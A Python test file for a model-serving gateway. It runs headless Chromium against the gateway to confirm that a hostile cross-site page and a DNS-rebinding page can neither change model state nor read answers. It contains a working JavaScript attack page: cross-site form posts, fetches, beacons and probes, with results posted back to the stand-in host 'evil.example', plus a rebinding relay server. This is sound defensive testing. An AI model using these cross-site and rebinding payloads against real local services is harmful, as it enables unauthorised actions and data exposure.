"""A page of another site, a page whose name is re-bound, and our own page, each in Debian's Chromium against a running gateway.

What the hostile pages tried and how it went is printed (``pytest -s``); what counts is the server's side: nothing happened.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import aiohttp
import pytest

from modelium.values import ModelStatus, Task
from tests.unit.gateway.stand_in import Served, numbers, profile_of, repeated, served

CHROMIUM = (
    "chromium",
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
)
NAME = "evil.example"
DEADLINE_S = 120  # the machine may be slow; nothing waits this long otherwise

# GATEWAY, METRICS and REPORT are put in. Each try ends by itself or after a second, and says what the page saw.
ATTACK = """<!doctype html><body><script>
const tried = [];
const later = ms => new Promise(done => setTimeout(done, ms));
const attempt = async (what, doing) => {
  let seen;
  try { seen = await Promise.race([doing(), later(3000).then(() => "nothing")]); } catch (error) { seen = String(error); }
  tried.push([what, seen]);
};
const seen = async answer => answer.type + " " + answer.status + " " + (await answer.text()).slice(0, 60);
const element = (tag, url) => new Promise(done => {
  const one = document.createElement(tag);
  one.onload = () => done("load"); one.onerror = () => done("error"); one.src = url;
  document.body.append(one);
});
const form = path => new Promise(done => {
  const [frame, form, field] = ["iframe", "form", "input"].map(tag => document.createElement(tag));
  frame.name = "frame" + tried.length; document.body.append(frame);
  form.action = GATEWAY + path; form.method = "post"; form.enctype = "text/plain"; form.target = frame.name;
  field.name = '{"inputs": "a", "x": "'; field.value = '"}'; form.append(field); document.body.append(form);
  frame.onload = () => done("an answer in a frame"); form.submit();
});
(async () => {
  for (const path of ["/models/m/load", "/models/m/unload", "/models/m/pin", "/predict/m", "/v1/embeddings"])
    await attempt("form " + path, () => form(path));
  for (const mode of ["no-cors", "cors"])
    for (const path of ["/models/m/unload", "/predict/m"])
      await attempt(mode + " POST " + path, async () => seen(await fetch(GATEWAY + path,
        {method: "POST", mode, body: '{"inputs": "a"}', headers: {"Content-Type": "text/plain"}})));
  await attempt("cors POST json /predict/m", async () => seen(await fetch(GATEWAY + "/predict/m",
    {method: "POST", body: '{"inputs": "a"}', headers: {"Content-Type": "application/json", Authorization: "Bearer x"}})));
  for (const url of [GATEWAY + "/models", GATEWAY + "/v1/models", METRICS + "/metrics"])
    for (const mode of ["no-cors", "cors"])
      await attempt(mode + " GET " + url, async () => seen(await fetch(url, {mode})));
  await attempt("image /apps/m", () => element("img", GATEWAY + "/apps/m"));
  await attempt("script /models", () => element("script", GATEWAY + "/models"));
  await attempt("frame /", () => element("iframe", GATEWAY + "/"));
  await attempt("EventSource /apps/m", () => new Promise(done => {
    const source = new EventSource(GATEWAY + "/apps/m");
    source.onopen = () => done("open"); source.onerror = () => { source.close(); done("error"); };
  }));
  navigator.sendBeacon(GATEWAY + "/models/m/unload", "x");
  await later(200);
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(tried)});
})();
</script>"""


@dataclass
class Attacker:
    """A server that has the page; once it gave it away, and where ``relays_to`` is set, its name leads to the gateway."""

    page: bytes = b""
    relays_to: int | None = None
    given: bool = False
    report: asyncio.Future[list[tuple[str, str]]] = field(default_factory=lambda: asyncio.get_running_loop().create_future())

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            if self.given and self.relays_to is not None and b" /report " not in head.splitlines()[0]:
                await _relay(head, reader, writer, self.relays_to)
                return
            if head.startswith(b"POST /report "):
                length = next(line for line in head.lower().splitlines() if line.startswith(b"content-length:"))
                told = json.loads(await reader.readexactly(int(length.split(b":")[1])))
                self.report.set_result([(what, seen) for what, seen in told])
            body = self.page if head.startswith(b"GET /attack ") else b""
            self.given |= bool(body)
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n")
            writer.write(b"Content-Length: %d\r\n\r\n%b" % (len(body), body))
            await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        finally:
            writer.close()


async def _relay(head: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, port: int) -> None:
    """What re-binding is for a browser: the same name and port, another machine."""
    there, back = await asyncio.open_connection("127.0.0.1", port)
    back.write(head.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n"))

    async def send() -> None:
        while data := await reader.read(65536):
            back.write(data)

    sending = asyncio.create_task(send())
    try:
        while data := await there.read(65536):
            writer.write(data)
            await writer.drain()
    finally:
        sending.cancel()
        await asyncio.gather(sending, return_exceptions=True)
        back.close()


@asynccontextmanager
async def chromium(profile: Path, *arguments: str) -> AsyncIterator[asyncio.subprocess.Process]:
    """Its own process group, so that all of its processes end."""
    process = await asyncio.create_subprocess_exec(
        *CHROMIUM,
        f"--user-data-dir={profile}",
        *arguments,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        yield process
    finally:
        if process.returncode is None:
            os.killpg(process.pid, signal.SIGKILL)
        await process.communicate()


@pytest.fixture
async def gateway() -> AsyncIterator[Served]:
    async with served(request_timeout_seconds=30) as running:
        running.serve(profile_of(Task.FEATURE_EXTRACTION), repeated({"EMBEDDING": numbers([1, 2, 3])}))
        yield running


async def attack(gateway: Served, attacker: Attacker, host: str, tmp_path: Path) -> Sequence[tuple[str, str]]:
    """Let the page try everything; gives what it saw."""
    server = await asyncio.start_server(attacker.serve, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    target = f"http://{host}:{port}" if attacker.relays_to is not None else gateway.url
    metrics = f"http://{host}:{gateway.metrics_url.rpartition(':')[2]}"
    addresses = {"GATEWAY": target, "METRICS": metrics, "REPORT": f"http://{host}:{port}/report"}
    page = ATTACK
    for name, url in addresses.items():
        page = page.replace(name, json.dumps(url))
    attacker.page = page.encode()
    rule = f"--host-resolver-rules=MAP {NAME} 127.0.0.1"
    async with server, chromium(tmp_path / "profile", rule, "--remote-debugging-port=0", f"http://{host}:{port}/attack"):
        async with asyncio.timeout(DEADLINE_S):
            told = await attacker.report
    for what, seen in told:
        print(f"  {what}: {seen}")
    return told


async def check_nothing_happened(gateway: Served, models: dict[str, ModelStatus]) -> None:
    assert gateway.controller.models == models
    assert not gateway.controller.calls
    assert not gateway.triton.seen
    async with gateway.http.get(f"{gateway.metrics_url}/metrics") as answer:
        assert not [line for line in (await answer.text()).splitlines() if line.startswith("modelium_requests_total{")]


async def test_a_page_of_another_site_does_nothing_and_learns_nothing(gateway: Served, tmp_path: Path) -> None:
    models = dict(gateway.controller.models)
    told = await attack(gateway, Attacker(), NAME, tmp_path)
    assert len(told) >= 15
    read = [(what, seen) for what, seen in told if what.startswith("cors ") and "TypeError" not in seen]
    assert not read, "a page of another site read an answer"
    await check_nothing_happened(gateway, models)


async def test_a_page_whose_name_is_re_bound_does_nothing_and_learns_nothing(gateway: Served, tmp_path: Path) -> None:
    models = dict(gateway.controller.models)
    told = await attack(gateway, Attacker(relays_to=int(gateway.url.rpartition(":")[2])), NAME, tmp_path)
    answers = [seen for what, seen in told if what.startswith("cors ") and "metrics" not in what]
    assert answers and all(seen.startswith("basic 421 ") for seen in answers), (
        "to the browser it is one site, to us a stranger's"
    )
    await check_nothing_happened(gateway, models)


async def test_our_own_page_shows_the_models(gateway: Served, tmp_path: Path) -> None:
    async with chromium(tmp_path / "profile", "--dump-dom", "--virtual-time-budget=1500", f"{gateway.url}/") as browser:
        async with asyncio.timeout(DEADLINE_S):
            shown, _ = await browser.communicate()
    assert b'<td class="state LOADED">LOADED</td>' in shown
    assert b"Triton 2.51.0" in shown


# Opens a route, fills in its form, sends it; answers what the page shows then.
TRY = """(async () => {
  const until = async holds => { while (!holds()) await new Promise(done => setTimeout(done, 20)); };
  await until(() => document.querySelectorAll("details").length);
  const code = [...document.querySelectorAll("summary code")].find(one => one.textContent === "/predict/{model}");
  const route = code.closest("details");
  route.open = true;
  await until(() => route.querySelector("form"));
  route.querySelector("form input").value = "m";
  route.querySelector("form textarea").value = JSON.stringify({inputs: "<b>x</b>"});
  route.querySelector("form").requestSubmit();
  await until(() => route.querySelector("pre").textContent.includes("]"));
  return route.innerText;
})()"""


async def test_our_page_of_routes_lists_them_and_sends_what_is_typed(gateway: Served, tmp_path: Path) -> None:
    profile = tmp_path / "profile"
    async with chromium(profile, "--remote-debugging-port=0", f"{gateway.url}/docs"), asyncio.timeout(DEADLINE_S):
        shown = await evaluated(profile, TRY)
    assert "A prediction in Hugging Face's schema" in shown and "`queue_full`" in shown
    assert "200 OK" in shown and "[1.0,2.0,3.0]" in shown
    (inputs,) = gateway.triton.seen
    assert inputs["TEXT"].tolist() == [[b"<b>x</b>"]]


async def evaluated(profile: Path, script: str) -> str:
    """What ``script`` answers in the page that Chromium shows."""
    port_file = profile / "DevToolsActivePort"
    while not port_file.is_file() or not port_file.read_text(encoding="utf-8"):  # noqa: ASYNC110 — another process writes it
        await asyncio.sleep(0.05)
    port = port_file.read_text(encoding="utf-8").splitlines()[0]
    async with aiohttp.ClientSession() as http:
        page = None
        while page is None:
            async with http.get(f"http://127.0.0.1:{port}/json") as answer:
                found = [one for one in await answer.json() if one["type"] == "page"]
            page = next((one for one in found if one["title"].startswith("Modelium")), None)
        async with http.ws_connect(page["webSocketDebuggerUrl"]) as socket:
            asked = {"expression": script, "awaitPromise": True, "returnByValue": True}
            await socket.send_json({"id": 1, "method": "Runtime.evaluate", "params": asked})
            while (said := await socket.receive_json()).get("id") != 1:
                pass
    assert "result" in said, said
    return str(said["result"]["result"].get("value", said))
